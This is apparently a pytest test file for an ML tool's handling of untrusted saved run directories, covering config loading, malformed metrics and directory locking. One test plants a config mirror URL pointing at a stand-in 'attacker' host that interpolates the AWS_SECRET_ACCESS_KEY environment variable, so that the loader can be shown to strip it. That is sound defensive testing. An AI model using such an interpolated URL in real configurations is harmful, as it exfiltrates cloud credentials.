"""A run directory that may come from elsewhere: what is taken from its config, and what is not."""

import json
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import Command

from nnlab.run_directory import (
    alone_in,
    load_config,
    read_results,
)

cannot_lock = pytest.mark.skipif(sys.platform == "win32", reason="Windows cannot lock a folder")


def run_with(folder: Path, settings: str) -> Path:
    (folder / ".hydra").mkdir()
    (folder / ".hydra" / "config.yaml").write_text(settings)
    return folder


def test_nothing_is_downloaded_for_a_saved_run(tmp_path: Path) -> None:
    address = "https://attacker/${oc.env:AWS_SECRET_ACCESS_KEY}/"
    settings = f"data: {{root: a, mirrors: ['{address}']}}\nhydra: {{a: 1}}\ndefaults: [a]\n"
    assert load_config(run_with(tmp_path, settings)) == {"data": {"root": "a", "mirrors": []}}


def test_the_data_of_a_saved_run_are_written_out(tmp_path: Path) -> None:
    run_dir = run_with(tmp_path, "data: ${theirs}\ntheirs: {mirrors: ['https://attacker/']}\n")
    with pytest.raises(ValueError, match=r"must hold data's settings as nnlab writes them, got \$"):
        load_config(run_dir)


def test_settings_that_are_nested_without_end_are_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="got lists in lists"):
        load_config(run_with(tmp_path, "a: " + "[" * 1_500 + "]" * 1_500))


@pytest.mark.parametrize(("split", "value"), [("test", None), ("val", "x"), ("time_s", [1])])
def test_results_that_are_no_numbers_are_damaged_ones(tmp_path: Path, split: str, value) -> None:
    numbers = dict.fromkeys(("best_epoch", "epochs", "max_epochs", "threads"), 3)
    texts = {"monitor": "val/loss", "device": "cpu", "versions": {}}
    splits = {name: {"loss": 0.5, "accuracy": 1} for name in ("val", "test", "time_s")}
    (tmp_path / "metrics.json").write_text(json.dumps({**numbers, **texts, **splits}))
    assert read_results(tmp_path) is not None
    splits[split]["accuracy"] = value
    (tmp_path / "metrics.json").write_text(json.dumps({**numbers, **texts, **splits}))
    assert read_results(tmp_path) is None


@cannot_lock
def test_a_second_process_in_a_run_directory_is_refused(tmp_path: Path) -> None:
    said = f"one process at a time may train in {tmp_path}"
    with alone_in(tmp_path), pytest.raises(ValueError, match=said), alone_in(tmp_path):
        pass
    with alone_in(tmp_path):  # free again
        pass


@cannot_lock
def test_a_killed_process_leaves_a_run_directory_free(tmp_path: Path) -> None:
    code = (
        "import fcntl, os, signal, sys; fcntl.flock(os.open(sys.argv[1], os.O_RDONLY), "
        "fcntl.LOCK_EX); print(flush=True); signal.pause()"
    )
    with subprocess.Popen(
        [sys.executable, "-c", code, str(tmp_path)], stdout=subprocess.PIPE
    ) as process:
        assert process.stdout is not None
        process.stdout.readline()
        with pytest.raises(ValueError, match="one process at a time"), alone_in(tmp_path):
            pass
        process.kill()
        process.wait()
        with alone_in(tmp_path):
            pass


@cannot_lock
def test_a_run_that_goes_on_elsewhere_is_not_resumed(digits_run, quick_command: Command) -> None:
    run_dir, _ = digits_run
    with alone_in(run_dir):
        process = quick_command("train.py", f"resume={run_dir}", succeed=False)
    assert process.returncode == 1
    (line,) = process.stderr.splitlines()
    assert line.startswith("error: one process at a time may train in ")


@cannot_lock
def test_a_second_process_leaves_the_settings_of_the_first_alone(
    quick_command: Command, tmp_path: Path
) -> None:
    mine = tmp_path / "mine"
    (mine / ".hydra").mkdir(parents=True)
    config = mine / ".hydra" / "config.yaml"
    config.write_text("seed: 0\n")  # the first has begun, and has no checkpoint yet
    with alone_in(mine):
        process = quick_command("train.py", "hydra.run.dir=mine", "seed=9", succeed=False)
    assert "one process at a time may train in" in process.stderr
    assert config.read_text() == "seed: 0\n"


@pytest.mark.parametrize("variable", ["RANK", "LOCAL_RANK", "SLURM_PROCID"])
def test_the_processes_of_a_distributed_run_share_its_directory(
    tmp_path: Path, monkeypatch, variable: str
) -> None:
    with alone_in(tmp_path):
        monkeypatch.setenv(variable, "1")
        with alone_in(tmp_path):
            pass
